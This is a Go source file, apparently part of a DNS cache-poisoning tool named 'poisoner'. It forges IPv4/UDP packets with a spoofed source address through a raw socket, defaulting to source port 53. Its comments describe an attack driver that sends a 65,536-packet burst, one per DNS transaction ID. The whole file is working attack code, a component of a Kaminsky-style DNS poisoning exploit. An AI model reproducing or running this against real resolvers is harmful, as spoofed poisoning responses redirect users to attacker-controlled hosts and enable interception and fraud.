// Package spoof constructs and transmits forged IPv4+UDP datagrams with
// an arbitrary source address, via a raw socket with IP_HDRINCL. This is
// the raw packet forger of spec §4.7.
package spoof

import (
	"net"

	"github.com/dnskaminsky/poisoner/internal/pool"
)

// Config are the construction parameters of spec §4.7: spoofed source
// IP, destination IP, and an upper bound on payload size. MaxPayload is
// kept in the Spoofer's config but sizes no buffer: Send takes a pooled
// buffer sized to each assembled packet. SrcPort/DstPort default to 53/33333 (the fixed
// heuristic ports spec §4.7 and §9 describe) but are exposed so a
// caller can parameterize the destination port, per the §9 Design Note
// flagging 33333 as a limitation.
type Config struct {
	SpoofedSrcIP net.IP
	DstIP        net.IP
	MaxPayload   int

	SrcPort uint16 // default 53
	DstPort uint16 // default 33333
}

func (c Config) withDefaults() Config {
	if c.SrcPort == 0 {
		c.SrcPort = 53
	}
	if c.DstPort == 0 {
		c.DstPort = 33333
	}
	return c
}

// Spoofer owns a raw socket and a source/destination IPv4 pair for its
// lifetime. It is single-threaded and single-instance per (src, dst)
// pair, as spec §3's Lifecycle note requires.
type Spoofer struct {
	cfg    Config
	ip     ipv4Header
	udp    udpHeader
	sender rawSender
}

// New constructs a Spoofer, acquiring the raw socket. Per spec §5,
// failures here (typically EPERM / missing CAP_NET_RAW) surface
// immediately rather than at first Send.
func New(cfg Config) (*Spoofer, error) {
	cfg = cfg.withDefaults()

	sender, err := newRawSender()
	if err != nil {
		return nil, err
	}

	return &Spoofer{
		cfg:    cfg,
		ip:     ipv4Header{SrcIP: cfg.SpoofedSrcIP, DstIP: cfg.DstIP},
		udp:    udpHeader{SrcPort: cfg.SrcPort, DstPort: cfg.DstPort},
		sender: sender,
	}, nil
}

// Send assembles the IPv4+UDP+payload buffer and hands it to the raw
// socket, destined for Config.DstIP. The attack driver calls Send once
// per transaction ID across a 65536-entry burst, so the assembled packet
// is built in a pooled buffer rather than a fresh allocation per send.
func (s *Spoofer) Send(payload []byte) error {
	udpSegment, err := s.udp.build(s.cfg.SpoofedSrcIP, s.cfg.DstIP, payload)
	if err != nil {
		return err
	}

	ipHeader, err := s.ip.build(len(payload))
	if err != nil {
		return err
	}

	total := len(ipHeader) + len(udpSegment)
	buf := pool.GetBuffer(total)
	defer pool.PutBuffer(buf)

	packet := buf[:0]
	packet = append(packet, ipHeader...)
	packet = append(packet, udpSegment...)

	return s.sender.send(packet, s.cfg.DstIP)
}

// Close releases the underlying raw socket.
func (s *Spoofer) Close() error {
	return s.sender.close()
}
